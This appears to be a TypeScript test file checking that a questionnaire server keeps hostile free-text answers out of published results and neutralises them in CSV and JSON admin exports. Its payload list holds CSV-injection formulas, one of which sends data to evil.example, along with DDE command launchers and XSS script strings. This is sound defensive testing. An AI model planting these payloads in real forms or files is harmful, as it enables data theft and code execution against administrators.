// Server side of injection: contributions whose free texts (and contact e-mail) hold script and
// spreadsheet formulas. Published results never carry that text; the administrator's CSV export
// neutralises every formula and is served as a download a browser will not render; the JSON that
// does carry it (the administrator's desk) is served so that no browser runs it either.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { ThemeId } from '../../../src/core/schema/questionnaire.js';
import { definitions } from '../../../src/questionnaires/all.js';
import { ADMIN_TOKEN, adminGet, collectivites, json, onStore, publishNow, putContribution, RENNES_SIRET, startServer, type TestServer } from '../helpers.js';
import { answersWithFreeText, profileOf } from './free-text.js';
import { parseCsv } from '../../helpers/csv.js';

/** What a hostile respondent types, each at most 200 characters (an "other, specify" text). */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '<img src=x onerror="alert(1)">',
  '<script>alert(document.cookie)</script>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '  =1+1',
  '\t=2+2',
];
/** Fragments of the payloads that no published wording contains. */
const FRAGMENTS = ['HYPERLINK', 'cmd|', '@SUM', '<img', '<script', 'onerror', 'onload', '<svg', 'javascript:', '=1+1', '=2+2'];
const EMAILS = ['-cmd@example.fr', '+33@example.fr'];
const THEMES: ThemeId[] = ['inclusion', 'strategie', 'outils-internes', 'dematerialisation'];
const RESPONDENTS = [RENNES_SIRET, ...collectivites((c) => c.kind === 'commune' && c.departementCode === '35' && c.code !== '35238', 6).map((c) => c.siret)];

/** A lone number, which a spreadsheet reads as data whatever its sign. */
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?(?:e[+-]?\d+)?$/i;

let server: TestServer;

describe(onStore('hostile free text on the server'), { concurrency: false }, () => {
  before(async () => {
    server = await startServer();
    for (const theme of THEMES) {
      const definition = definitions[theme];
      for (const [index, siret] of RESPONDENTS.entries()) {
        let next = index;
        const answers = answersWithFreeText(definition, index + 7, () => PAYLOADS[next++ % PAYLOADS.length]!, profileOf(siret));
        const body = { role: 'agent', version: definition.version, answers, contactEmail: EMAILS[index % EMAILS.length] };
        const created = await json(await putContribution(server.url, siret, theme, body));
        assert.equal(created.status, 201, `${theme} ${siret}: ${JSON.stringify(created.body)}`);
      }
    }
    await publishNow(server.url);
  });

  after(async () => {
    await server.close();
  });

  test('results and maps never carry the text', async () => {
    let published = 0;
    for (const theme of THEMES) {
      const paths = [
        `/api/v1/resultats/${theme}`,
        `/api/v1/resultats/${theme}?territoire=departement:35&comparer=region,france,similaires`,
        `/api/v1/resultats/${theme}?territoire=departement:35&comparer=france&ponderation=redressee`,
        `/api/v1/resultats/${theme}?territoire=commune:35238&comparer=departement`,
      ];
      for (const question of definitions[theme].sections.flatMap((section) => section.questions)) {
        if (question.kind === 'text') continue;
        paths.push(`/api/v1/resultats/${theme}?territoire=departement:35&question=${question.id}`);
        paths.push(`/api/v1/resultats/${theme}/carte?question=${question.id}`);
      }
      for (const path of paths) {
        const response = await fetch(`${server.url}${path}`);
        const text = await response.text();
        assert.equal(response.status, 200, `${path}: ${text.slice(0, 200)}`);
        published += (JSON.parse(text) as { series?: { status: string }[] }).series?.filter((series) => series.status === 'publie').length ?? 0;
        for (const fragment of FRAGMENTS) assert.ok(!text.includes(fragment), `${path} carries “${fragment}”`);
        for (const address of EMAILS) assert.ok(!text.includes(address), `${path} carries ${address}`);
      }
    }
    // The figures searched rest on those contributions.
    assert.ok(published >= THEMES.length * 3, `only ${published} published series`);
  });

  test('the CSV export neutralises every formula and is a download, never a page', async () => {
    // Every cell of every theme's export: each payload landed in some theme's free texts.
    const all = new Set<string>();
    for (const theme of THEMES) {
      const response = await adminGet(server.url, `/api/v1/export/${theme}.csv`);
      assert.equal(response.status, 200);
      assert.match(response.headers.get('content-type')!, /^text\/csv/);
      assert.match(response.headers.get('content-disposition')!, /^attachment;/);
      assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
      const [header, ...rows] = parseCsv(await response.text());
      assert.equal(rows.length, RESPONDENTS.length);
      const cells = rows.flatMap((row) => row.map((cell, column) => ({ cell, column: header![column]! })));
      for (const { cell, column } of cells) {
        // A spreadsheet runs a cell starting with one of these: only plain numbers may.
        if (/^[=+\-@\t\r]/.test(cell)) assert.match(cell, PLAIN_NUMBER, `${theme}.${column} would run as a formula: ${cell}`);
      }
      for (const { cell } of cells) all.add(cell);
    }
    // The formulas are there, defused by a leading quote; the markup is there as the text it is.
    assert.ok(all.has(`'=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")`));
    assert.ok(all.has(`'+cmd|' /C calc'!A0`));
    assert.ok(all.has(`'-2+3+cmd|' /C calc'!A0`));
    assert.ok(all.has(`'@SUM(1+1)*cmd|' /C calc'!A0`));
    // Stored trimmed, so the spaces or tab some spreadsheets skip are gone and the quote is first.
    assert.ok(all.has(`'=1+1`) && all.has(`'=2+2`));
    assert.ok(all.has('<script>alert(document.cookie)</script>'));
    for (const address of EMAILS) assert.ok(all.has(`'${address}`), `${address} is not neutralised`);
  });

  test('the JSON that carries the text is served so that no browser renders or runs it', async () => {
    const definition = definitions.inclusion;
    const answers = answersWithFreeText(definition, 3, () => PAYLOADS[5]!, profileOf(RENNES_SIRET));
    const conflict = await putContribution(server.url, RENNES_SIRET, 'inclusion', { role: 'elu', version: definition.version, answers });
    assert.equal(conflict.status, 409);
    const response = await adminGet(server.url, '/api/v1/admin/pending');
    assert.match(response.headers.get('content-type')!, /^application\/json/);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
    assert.match(response.headers.get('content-security-policy')!, /default-src 'none'/);
    const body = (await response.json()) as { pending: { answers: Record<string, unknown> }[] };
    // The text is kept exactly, as data: the administrator sees what was sent.
    assert.ok(body.pending.some((entry) => Object.values(entry.answers).includes(PAYLOADS[5])));
    assert.equal((await fetch(`${server.url}/api/v1/admin/pending`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}x` } })).status, 401);
  });
});
